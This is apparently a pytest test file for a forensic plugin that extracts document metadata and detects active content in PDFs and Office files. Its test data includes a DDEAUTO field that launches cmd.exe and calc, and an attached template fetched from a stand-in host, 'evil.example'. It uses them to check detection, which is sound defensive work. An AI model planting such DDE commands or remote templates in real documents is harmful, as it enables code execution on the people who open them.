"""Documents: what exiftool and oletools say of them is what the plugin says."""

import importlib.util
import io
import json
import logging
import struct
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pypdf
import pytest

from forensics.plugin import Corrupt, Finding, LimitExceeded, Unsupported
from forensics.testing import file_of, run

_spec = importlib.util.spec_from_file_location("document_properties", Path(__file__).parents[2] / "plugins" / "document_properties.py")
assert _spec and _spec.loader
module = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(module)
document_properties = module.document_properties

FIELDS = {
    "Title": "title",
    "Author": "author",
    "Subject": "subject",
    "Producer": "producer",
    "Company": "company",
    "Software": "application",
    "LastModifiedBy": "last_modified_by",
    "Template": "template",
    "PageCount": "pages",
    "Pages": "pages",
    "TotalEditTime": "edit_minutes",
}


def until_damage(content: bytes | Path, **file: Any) -> tuple[list[Finding], Corrupt | LimitExceeded | None]:
    """The findings up to the damage, and the damage."""
    found: list[Finding] = []
    try:
        for finding in document_properties(file_of(content, needs=document_properties.needs, **file)):
            found.append(finding)
    except (Corrupt, LimitExceeded) as damage:
        return found, damage
    return found, None


def archive(**members: str | bytes) -> bytes:
    """A ZIP of members, whose names have ``__`` for a slash and ``_dot_`` for a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members.items():
            file.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


def ooxml(**members: str | bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        file.writestr("word/document.xml", "<document/>")
        for name, content in members.items():
            file.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


def relations(kind: str, target: str) -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationships><Relationship Id="r1" Type="{base}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'


def active(content: bytes | Path) -> dict[str, Any]:
    return next((dict(finding.data) for finding in until_damage(content)[0] if finding.kind == "active-content"), {})


def exiftool_time(text: str) -> datetime:
    moment = datetime.strptime(text, "%Y:%m:%d %H:%M:%S%z" if len(text) > 19 else "%Y:%m:%d %H:%M:%S")
    return moment.astimezone(UTC) if moment.tzinfo else moment.replace(tzinfo=UTC)


@pytest.fixture(scope="module")
def documents(evidence: Path) -> dict[str, tuple[dict[str, Any], list[Finding]]]:
    entries = json.loads((evidence / "manifest.json").read_bytes())["entries"]
    entries = [entry for entry in entries if entry["path"].startswith("documents/")]
    return {Path(entry["path"]).name: (entry["expected"], until_damage(evidence / entry["path"])[0]) for entry in entries}


def test_every_property_is_what_exiftool_says(documents: dict[str, tuple[dict[str, Any], list[Finding]]]) -> None:
    said, wanted = {}, {}
    for name, (expected, found) in documents.items():
        for tag in FIELDS.keys() & expected.keys():
            said[name, tag] = str(found[0].data.get(FIELDS[tag], ""))
            wanted[name, tag] = str(expected[tag])
    assert len(wanted) > 30
    assert said == wanted


def test_every_date_is_what_exiftool_says_in_utc(documents: dict[str, tuple[dict[str, Any], list[Finding]]]) -> None:
    dated = {name: pair for name, pair in documents.items() if "CreateDate" in pair[0]}
    assert len(dated) == 6
    for expected, found in dated.values():
        assert found[0].when == exiftool_time(expected["CreateDate"])


def test_office_open_xml_properties_are_those_of_its_own_parts(documents: dict[str, tuple[dict[str, Any], list[Finding]]]) -> None:
    finding = documents["Document.docx"][1][0]  # values as they stand in its docProps/core.xml and docProps/app.xml
    assert finding.when == datetime(2012, 11, 7, 23, 29, tzinfo=UTC)
    assert finding.data["time_modified"] == "2013-08-25T22:18:00Z"
    assert (finding.data["author"], finding.data["revision"], finding.data["template"]) == ("Nides", "3", "Normal.dotm")
    assert (finding.data["words"], finding.data["edit_minutes"]) == (2, 1385)


def test_summary_names_kind_title_people_and_time(documents: dict[str, tuple[dict[str, Any], list[Finding]]]) -> None:
    assert documents["Document.doc"][1][0].summary == (
        "Word document “Table of Context”, by DAVID NIDES, last saved by Nides, created 2012-12-10 18:38:00 UTC"
    )


@pytest.mark.parametrize(
    ("name", "kinds"),
    [
        ("javascript.pdf", ["JavaScript"]),
        ("dde-test.docx", ["DDE field"]),
        ("embedded-simple-2007.docx", ["embedded object"]),
        ("sample_with_calc_embedded.doc", ["embedded object"]),
        ("excel4_sample_macro.xls", ["Excel 4 macros"]),
    ],
)
def test_active_content_is_named(evidence: Path, name: str, kinds: list[str]) -> None:
    found = run(document_properties, evidence / "documents" / name)
    assert [finding.kind for finding in found] == ["document", "active-content"]
    assert found[1].data["active"] == kinds
    assert found[1].level == "notable"


def test_embedded_file_of_a_pdf_is_named(evidence: Path) -> None:
    assert "embedded file: KSBASE.WQ2" in active(evidence / "documents" / "fileAttachment.pdf")["places"]


def test_dde_commands_are_shown_though_split_over_runs(evidence: Path) -> None:
    places = active(evidence / "documents" / "dde-test.docx")["places"]
    assert 'DDE field: DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"' in places
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("D", "DEA", "UTO cmd"))
    assert active(ooxml(word__header1_dot_xml=runs))["places"] == ["DDE field: DDEAUTO cmd"]


def test_script_of_a_pdf_can_be_searched(evidence: Path) -> None:
    assert "app.alert" in run(document_properties, evidence / "documents" / "javascript.pdf")[1].text


def test_plain_documents_have_no_active_content(evidence: Path) -> None:
    for name in ("Document.doc", "Document.docx", "minimal-document.pdf", "text_only.doc"):
        assert [finding.kind for finding in run(document_properties, evidence / "documents" / name)] == ["document"]


def test_encrypted_office_document_is_noted(evidence: Path) -> None:
    found = run(document_properties, evidence / "documents" / "encrypted.docx")
    assert [(finding.kind, finding.level) for finding in found] == [("document", "info"), ("encrypted-document", "notable")]


def test_encryption_of_a_pdf_is_what_exiftool_says(evidence: Path) -> None:
    [_, encrypted] = run(document_properties, evidence / "documents" / "encryption_openpassword.pdf")
    assert encrypted.data["encryption"] == "Standard V4 R4, 128 bits, needs a password to open"  # exiftool: Standard V4.4 (128-bit)


def test_pdf_that_opens_without_a_password_is_read() -> None:
    writer, out = pypdf.PdfWriter(), io.BytesIO()
    writer.add_blank_page(72, 72)
    writer.add_metadata({"/Author": "somebody"})
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-256")
    writer.write(out)
    found = run(document_properties, out.getvalue())
    assert found[0].data["author"] == "somebody"
    assert "opens without a password" in found[1].summary


def test_template_fetched_from_elsewhere_is_active_content() -> None:
    said = active(ooxml(word___rels__settings_dot_xml_dot_rels=relations("attachedTemplate", "https://evil.example/t.dotm")))
    assert said["active"] == ["external template"]
    assert said["places"] == ["external template: attachedTemplate: https://evil.example/t.dotm"]


def test_template_on_the_authors_own_disk_is_a_property_alone() -> None:
    [finding] = run(
        document_properties,
        ooxml(word___rels__settings_dot_xml_dot_rels=relations("attachedTemplate", "file:///C:\\Users\\dana\\Normal.dotm")),
    )
    assert finding.data["attached_template"] == "file:///C:\\Users\\dana\\Normal.dotm"


def test_hyperlinks_are_not_active_content() -> None:
    assert active(ooxml(word___rels__document_dot_xml_dot_rels=relations("hyperlink", "https://example.org"))) == {}


def test_macros_of_office_open_xml_are_found_by_their_part() -> None:
    assert active(ooxml(word__vbaProject_dot_bin=b"x"))["places"] == ["VBA macros: word/vbaProject.bin"]


def test_opendocument_properties_keep_local_time_naive() -> None:
    meta = (
        '<o:document-meta xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"><o:meta><meta:initial-creator>Ana</meta:initial-creator>'
        "<dc:creator>Bo</dc:creator><meta:creation-date>2020-01-02T03:04:05.123456789</meta:creation-date>"
        '<meta:document-statistic meta:page-count="7"/></o:meta></o:document-meta>'
    )
    [finding] = run(document_properties, archive(mimetype="application/vnd.oasis.opendocument.text", meta_dot_xml=meta))
    assert finding.when == datetime(2020, 1, 2, 3, 4, 5, 123456)
    assert (finding.data["author"], finding.data["last_modified_by"], finding.data["pages"]) == ("Ana", "Bo", 7)


def test_encrypted_opendocument_is_noted() -> None:
    found = run(
        document_properties,
        archive(
            mimetype="application/vnd.oasis.opendocument.spreadsheet",
            **{"META-INF__manifest_dot_xml": "<m><encryption-data/></m>", "meta_dot_xml": b"\x01\x02"},
        ),
    )
    assert [finding.kind for finding in found] == ["document", "encrypted-document"]


@pytest.mark.parametrize(
    ("text", "moment"),
    [
        ("D:20121123142309+01'00'", datetime(2012, 11, 23, 13, 23, 9, tzinfo=UTC)),
        ("D:199812231952-08'00", datetime(1998, 12, 24, 3, 52, tzinfo=UTC)),  # the example of ISO 32000-1, 7.9.4
        ("D:20200102030405Z", datetime(2020, 1, 2, 3, 4, 5, tzinfo=UTC)),
        ("D:2020", datetime(2020, 1, 1)),
        ("D:20201399", None),
        ("yesterday", None),
    ],
)
def test_pdf_dates(text: str, moment: datetime | None) -> None:
    assert module._pdf_time(text) == moment


def test_pdf_with_a_damaged_table_is_read_then_reported(evidence: Path) -> None:
    path = evidence / "documents" / "corruptionOneByteMissing.pdf"
    found, damage = until_damage(path)
    assert b"/Author(van der Knijff)" in path.read_bytes()
    assert found[0].data["author"] == "van der Knijff"
    assert "damaged" in str(damage)


@pytest.mark.parametrize("name", ["Document.doc", "Document.docx", "fileAttachment.pdf", "excel4_sample_macro.xls"])
def test_half_a_document_ends_in_a_named_error(evidence: Path, name: str) -> None:
    content = (evidence / "documents" / name).read_bytes()
    _, damage = until_damage(content[: len(content) // 2], name=name)
    assert isinstance(damage, Corrupt)


def test_members_that_inflate_without_end_are_not_read() -> None:
    _, damage = until_damage(ooxml(docProps__core_dot_xml=bytes(20 << 20)))
    assert isinstance(damage, LimitExceeded)


def test_entities_of_xml_are_not_expanded() -> None:
    _, damage = until_damage(ooxml(docProps__core_dot_xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'))
    assert isinstance(damage, Corrupt)


def test_archive_directory_that_would_not_fit_memory_is_refused() -> None:
    content = bytearray(ooxml())
    at = content.rfind(b"PK\x05\x06")
    struct.pack_into("<I", content, at + 12, 0x7FFFFFFF)
    with pytest.raises(Corrupt):  # it claims more than the file holds
        run(document_properties, bytes(content))
    content = content[:at] + bytes(17 << 20) + content[at:]
    with pytest.raises(LimitExceeded, match="directory"):
        run(document_properties, bytes(content))


def test_other_content_is_not_a_document(evidence: Path) -> None:
    for content in (b"", b"text", archive(a_dot_txt="x"), (evidence / "photos" / "Apple iPhone 4.jpg").read_bytes()):
        with pytest.raises(Unsupported):
            run(document_properties, content)


def test_libraries_may_log_again_afterwards(evidence: Path) -> None:
    logger = logging.getLogger("pypdf")
    before = (list(logger.handlers), logger.propagate)
    until_damage(evidence / "documents" / "corruptionOneByteMissing.pdf")
    assert (list(logger.handlers), logger.propagate) == before
